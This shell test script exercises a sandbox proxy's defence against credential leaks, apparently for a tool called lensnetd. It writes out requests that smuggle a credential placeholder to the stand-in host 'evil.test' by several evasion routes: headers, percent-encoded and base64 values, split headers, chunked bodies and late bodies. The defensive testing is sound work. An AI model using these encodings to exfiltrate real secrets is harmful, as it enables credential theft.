#!/bin/sh
# Attack (issue 13): a sandbox sends one of its credential placeholders
# to a host the credential is not bound to, hidden every way it can:
# plain in a header, in the URL query, percent-encoded, base64 in an
# Authorization: Basic, split across two header lines, in a chunked
# body across chunk boundaries, in a Content-Length body, in a body
# sent after the head went upstream (Expect: 100-continue); over plain
# HTTP and over intercepted HTTPS.  Each is refused with a 403, audited
# as cred.leak_attempt (where, encoding; never the placeholder), and the
# upstream (which logs every byte it receives) never sees it; a request
# without one on the same keep-alive connection still works.  A host
# the credential is bound to is intercepted without tlsTerminate, and a
# request carrying its placeholder in the head goes to lenscredd's
# exchange, never upstream: here lenscredd does not hold the credential
# (502, "credential exchange: ..."), then lenscredd is down (502,
# "lenscredd is not connected"); either way nothing reaches the
# upstream.  To the bound host, a second credential's placeholder in
# the same head is a leak attempt for that one, and the bound one's in
# the body is refused (the exchange takes it in the head only).  The
# harness plays lensnetd's parent (NETD_PLACEHOLDERS, NETD_EXCH_REQ
# through exchreq.c and the real lenscredd); a placeholder that is not
# one ends the proxy.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../daemon.sh"
. "$(dirname "$0")/proxyworld.sh"

CREDD=$OBJ/lenscredd
CP=$TOOLS/credpeer
pw_need || exit 0
if [ ! -x "$CREDD" ] || [ ! -x "$CP" ] || ! id _lenscred >/dev/null 2>&1 ||
    ! command -v openssl >/dev/null || ! command -v curl >/dev/null ||
    ! python3 -c 'import cryptography' 2>/dev/null; then
	echo "1..0 # SKIP needs lenscredd, credpeer, _lenscred, openssl, curl, python3-cryptography"
	exit 0
fi
tap_plan 40
tmpdir_setup
chmod 0755 "$T"
SBX=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
at_exit 'credd_stop'

PH=lens-ph-abcdefghijklmnopqrstuvwxyz234567
RND=${PH#lens-ph-}
PH2=lens-ph-222222abcdefghijklmnopqrstuvwxyz
PCT=$(printf '%s' "$PH" | od -An -tx1 | tr -d ' \n' | sed 's/../%&/g')
B64=$(printf 'me:%s' "$PH" | base64 -w0)

python3 "$(dirname "$0")/../tlscerts.py" "$T/pki" ||
    { echo "Bail out! cannot make the certificates"; exit 1; }
credd_start || { echo "Bail out! lenscredd did not start"; exit 1; }
"$CP" "$T/cred.sock" create "$SBX" "$T/sbxca.pem" >/dev/null &&
    [ -s "$T/sbxca.pem" ]
ok $? "lenscredd made the sandbox's CA"

pw_setup
ok $? "namespaces $C $G $I, links, nft redirect"
# upstreams that log every byte they receive: evil.test plain on
# $EVIL:80; good.test, good2.test over TLS on $REAL:443 (a TLS relay to
# an httpd on 127.0.0.1:8080 of the same namespace)
bg "$I" "$H" httpd $EVIL:80 "$T/plain.log" >"$T/plain.out"
bg "$I" "$H" httpd 127.0.0.1:8080 "$T/tls.log" >"$T/tlsd.out"
cat >"$T/tlsrelay.py" <<'EOF'
import socket, ssl, sys, threading
cert, key, addr = sys.argv[1], sys.argv[2], sys.argv[3]
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
ls = socket.socket()
ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
ls.bind((addr, 443))
ls.listen(16)
def pipe(a, b):
    try:
        while True:
            d = a.recv(65536)
            if not d:
                break
            b.sendall(d)
    except OSError:
        pass
    for s in (a, b):
        try:
            s.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
def serve(c):
    try:
        t = ctx.wrap_socket(c, server_side=True)
    except OSError:
        c.close()
        return
    u = socket.create_connection(("127.0.0.1", 8080))
    threading.Thread(target=pipe, args=(u, t), daemon=True).start()
    pipe(t, u)
print("listening", flush=True)
while True:
    c, _ = ls.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
EOF
bg "$I" python3 "$T/tlsrelay.py" "$T/pki/good.crt" "$T/pki/good.key" $REAL \
    >"$T/relay.out" 2>&1
deny_policy "$T/policy" <<EOF
    http:
      - {match: evil.test, verdict: allow}
      - {match: good2.test, verdict: allow, tlsTerminate: true}
      - {match: good.test, verdict: allow}
credentials:
  - id: api
    envVar: API_KEY
    injections:
      - {type: header, host: good.test, name: Authorization, value: "Bearer {secret}"}
  - id: other
    envVar: OTHER_KEY
    injections:
      - {type: query, host: nowhere.test, name: key, value: "{secret}"}
EOF
pw_proxy "$T/policy" -k "$T/cred.sock" -A "$T/pki/ca.crt" -B 1000 \
    -r evil.test=$EVIL -r good.test=$REAL -r good2.test=$REAL \
    -x $PH -x $PH2
ok $? "harness started the proxy with two placeholders (pid $PROXY)"
wait_for grep -q listening "$T/plain.out" &&
    wait_for grep -q listening "$T/tlsd.out" &&
    wait_for grep -q listening "$T/relay.out"
ok $? "logging upstreams: $EVIL:80 plain, $REAL:443 TLS"

statuses() { printf '%s\n' "$1" | grep '^status\|^\[eof\]' | tr '\n' ' '; }
# leak NAME WHERE ENCODING REQ: REQ then a clean GET on one connection
leak() {
	mark
	out=$(inc "$H" seq $EVIL:80 "$4" \
	    "GET /clean-$1 HTTP/1.1\r\nHost: evil.test\r\n\r\n")
	[ "$(statuses "$out")" = "status 403 status 200 " ] &&
	    printf '%s\n' "$out" | grep -q "lens proxy: credential placeholder"
	ok $? "http $1: 403, then a clean request on the same connection 200 ($(statuses "$out"))"
	audit_has 'audit cred.leak_attempt' '"host":"evil.test"' \
	    "\"where\":\"$2\"" "\"encoding\":\"$3\"" '"proto":"http"' \
	    "\"sandbox\":\"$SBX\""
	ok $? "http $1: audited cred.leak_attempt, where $2, $3"
}

# 1. plain HTTP to a host no credential is bound to
leak header 'header X-Api-Key' plain \
    "GET /h HTTP/1.1\r\nHost: evil.test\r\nX-Api-Key: $PH\r\n\r\n"
leak query url plain \
    "GET /q?key=$PH2 HTTP/1.1\r\nHost: evil.test\r\n\r\n"
leak percent url encoded \
    "GET /p?key=$PCT HTTP/1.1\r\nHost: evil.test\r\n\r\n"
leak basic 'header Authorization' encoded \
    "GET /b HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Basic $B64\r\n\r\n"
leak split 'header lines (split)' split \
    "GET /s HTTP/1.1\r\nHost: evil.test\r\nX-A: lens-ph-abcdefghijklmnop\r\nX-B: qrstuvwxyz234567\r\n\r\n"

# bodies: the connection closes after the 403 (the body was cut)
body() {
	mark
	out=$(inc "$H" seq $EVIL:80 "$2" \
	    "GET /after-$1 HTTP/1.1\r\nHost: evil.test\r\n\r\n")
	[ "$(statuses "$out")" = "status 403 [eof] " ]
	ok $? "http $1: 403 and the connection closes ($(statuses "$out"))"
	audit_has 'audit cred.leak_attempt' '"host":"evil.test"' \
	    '"where":"body"' '"method":"POST"'
	ok $? "http $1: audited cred.leak_attempt in the body"
}
body chunked "POST /c HTTP/1.1\r\nHost: evil.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n{\"k\":\r\nc\r\n\"lens-ph-abc\r\n3\r\ndef\r\n1a\r\nghijklmnopqrstuvwxyz234567\r\n2\r\n\"}\r\n0\r\n\r\n"
body clen "POST /l HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 52\r\n\r\n{\"token\":\"$PH\"}"
# the head goes upstream first; the body (after the 100) is cut
mark
out=$(inc "$H" converse $EVIL:80 \
    "POST /late HTTP/1.1\r\nHost: evil.test\r\nExpect: 100-continue\r\nContent-Length: 52\r\n\r\n" \
    "{\"token\":\"$PH\"}")
printf '%s\n' "$out" | grep -q '^HTTP/1.1 100' &&
    printf '%s\n' "$out" | grep -q '^HTTP/1.1 403' &&
    tr -d '\r' <"$T/plain.log" | grep -q '^POST /late HTTP/1.1'
ok $? "http late body: the head went up (100 Continue), the body is refused 403" ||
    diag "$out"
audit_has 'audit cred.leak_attempt' '"where":"body"' '"path":"/late"'
ok $? "http late body: audited"

# 2. intercepted HTTPS to good2.test (tlsTerminate), not bound
sx() { inc env SSL_CERT_FILE="$T/sbxca.pem" CURL_CA_BUNDLE="$T/sbxca.pem" "$@"; }
o="-s --max-time 10 --resolve good2.test:443:$REAL -w %{http_code}/%{num_connects}\n -o /dev/null"
mark
out=$(sx curl $o -H "X-Api-Key: $PH" https://good2.test/h1 \
    --next $o "https://good2.test/q1?k=$PCT" \
    --next $o -u "me:$PH2" https://good2.test/b1 \
    --next $o https://good2.test/clean \
    --next $o --data-binary "{\"t\":\"$PH\"}" https://good2.test/d1 \
    2>&1 | tr '\n' ' ')
[ "$out" = "403/1 403/0 403/0 200/0 403/0 " ]
ok $? "https header, percent query, Basic: 403; clean: 200; body: 403; one connection (code/new connections: $out)"
audit_has 'audit cred.leak_attempt' '"host":"good2.test"' '"proto":"https"' \
    '"where":"header X-Api-Key"'
ok $? "https header: audited"
audit_has 'audit cred.leak_attempt' '"host":"good2.test"' '"where":"url"' \
    '"encoding":"encoded"'
ok $? "https percent-encoded url: audited"
audit_has 'audit cred.leak_attempt' '"host":"good2.test"' \
    '"where":"header Authorization"'
ok $? "https Basic: audited"
audit_has 'audit cred.leak_attempt' '"host":"good2.test"' '"where":"body"'
ok $? "https body: audited"

# 3. good.test, the host the credential is bound to: intercepted without
# tlsTerminate; a placeholder in the head goes to the exchange, which
# refuses (lenscredd holds no credential "api"): 502, nothing upstream
o="-s --max-time 10 --resolve good.test:443:$REAL -w %{http_code}\n"
mark
out=$(sx curl $o -o "$T/bound.body" -H "Authorization: Bearer $PH" \
    https://good.test/bound --next $o -o /dev/null https://good.test/bclean \
    2>&1 | tr '\n' ' ')
[ "$out" = "502 200 " ] &&
    grep -q 'lens proxy: credential exchange: ' "$T/bound.body"
ok $? "bound host: placeholder to the exchange, which refused: 502, clean 200 ($out)" ||
    diag "$(cat "$T/bound.body")"
audit_has '"name":"good.test"' '"tls":"intercepted"'
ok $? "bound host: intercepted though its rule has no tlsTerminate"
audit_has 'net.http' '"path":"/bound"' '"status":502' '"via":"exchange"' \
    '"reason":"credential exchange: '
ok $? "bound host: the exchange's refusal is audited (net.http via exchange)"
# another credential's placeholder in the same head: a leak for that one
mark
out=$(sx curl $o -o "$T/two.body" -H "Authorization: Bearer $PH" \
    -H "X-Other: $PH2" https://good.test/two 2>&1 | tr '\n' ' ')
[ "$out" = "403 " ] && grep -q "$(printf '%s' 'not bound to')" "$T/two.body"
ok $? "bound host: a second, unbound credential's placeholder too: 403 ($out)"
audit_has 'audit cred.leak_attempt' '"host":"good.test"' \
    '"where":"header X-Other"'
ok $? "bound host: audited cred.leak_attempt for the other credential"
# the bound credential's placeholder in the body only: not the exchange's
out=$(sx curl $o -o "$T/body.body" --data-binary "k=$PH" \
    https://good.test/inbody 2>&1 | tr '\n' ' ')
[ "$out" = "403 " ] && grep -q 'where the exchange does not take it' \
    "$T/body.body"
ok $? "bound host: its placeholder in the body: 403 ($out)"
# lenscredd down: fail closed, nothing upstream
credd_stop
mark
out=$(sx curl $o -o "$T/down.body" -H "Authorization: Bearer $PH" \
    https://good.test/down 2>&1 | tr '\n' ' ')
[ "$out" = "502 " ] && grep -q 'lenscredd is not connected' "$T/down.body"
ok $? "lenscredd down: 502 'lenscredd is not connected' ($out)"
audit_has 'net.http' '"path":"/down"' '"status":502' '"via":"exchange"'
ok $? "lenscredd down: audited"

# 4. what the upstreams received
tr -d '\r' <"$T/plain.log" | grep -q '^GET /clean-split' &&
    tr -d '\r' <"$T/tls.log" | grep -q '^GET /clean' &&
    tr -d '\r' <"$T/tls.log" | grep -q '^GET /bclean'
ok $? "the clean requests reached the upstreams"
for f in plain tls; do
	! grep -aiq -e "$RND" -e "${PH2#lens-ph-}" -e "$B64" \
	    -e "$(printf 'me:%s' "$PH2" | base64 -w0)" "$T/$f.log" &&
	    ! grep -aq -e "$PCT" -e "lens-ph-abc" "$T/$f.log"
	ok $? "$f upstream: never saw a placeholder, whole or in part" ||
	    diag "$(grep -ai -e "$RND" -e lens-ph "$T/$f.log" | head -5)"
done
! tr -d '\r' <"$T/plain.log" | grep -aq -e '^GET /h ' -e '^GET /q?' \
    -e '^GET /p?' -e '^GET /b ' -e '^GET /s '
ok $? "plain upstream: no request with a placeholder in its head or body was sent on"
! tr -d '\r' <"$T/tls.log" | grep -aq -e '^GET /bound' -e '^GET /two' \
    -e '^GET /down'
ok $? "TLS upstream: no request that went to the exchange reached it"
! grep -a "^audit" "$T/h.out" | grep -aiq -e "$RND" -e "${PH2#lens-ph-}" -e "$PCT"
ok $? "the audit never holds the placeholder"

# 5. the parent's message is checked: not a placeholder ends the proxy
bg "$G" "$H" run -P "$T/policy" -S $CL -t $GW:15002 -x lens-ph-notbase32189 \
    >"$T/h2.out" 2>"$T/h2.err"
wait_for grep -q "NETD_PLACEHOLDERS: not a placeholder" "$T/h2.err"
ok $? "a NETD_PLACEHOLDERS that is not a placeholder: the proxy refuses it and ends" ||
    diag "$(tail -n 5 "$T/h2.err")"
